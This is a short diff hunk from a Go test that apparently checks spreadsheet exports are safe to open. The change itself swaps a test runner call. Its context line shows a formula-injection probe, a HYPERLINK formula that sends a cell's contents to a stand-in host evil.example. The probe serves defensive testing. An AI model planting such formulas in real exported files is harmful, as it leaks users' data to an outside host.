@@ -23,7 +23,7 @@ var formulaProbes = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
 // formula_escaping none, asked for by name, writes them verbatim.
 func TestExportsSafeToOpen(t *testing.T) {
 	t.Parallel()
-	storetest.RunWith(t, Migrations, func(t *testing.T, db *store.DB) {
+	storetest.RunParallel(t, Migrations, func(t *testing.T, db *store.DB) {
 		fe := newFileEnv(t, db)
 		ctx := context.Background()
 		// stored are the values as the API kept them, by column and row key.
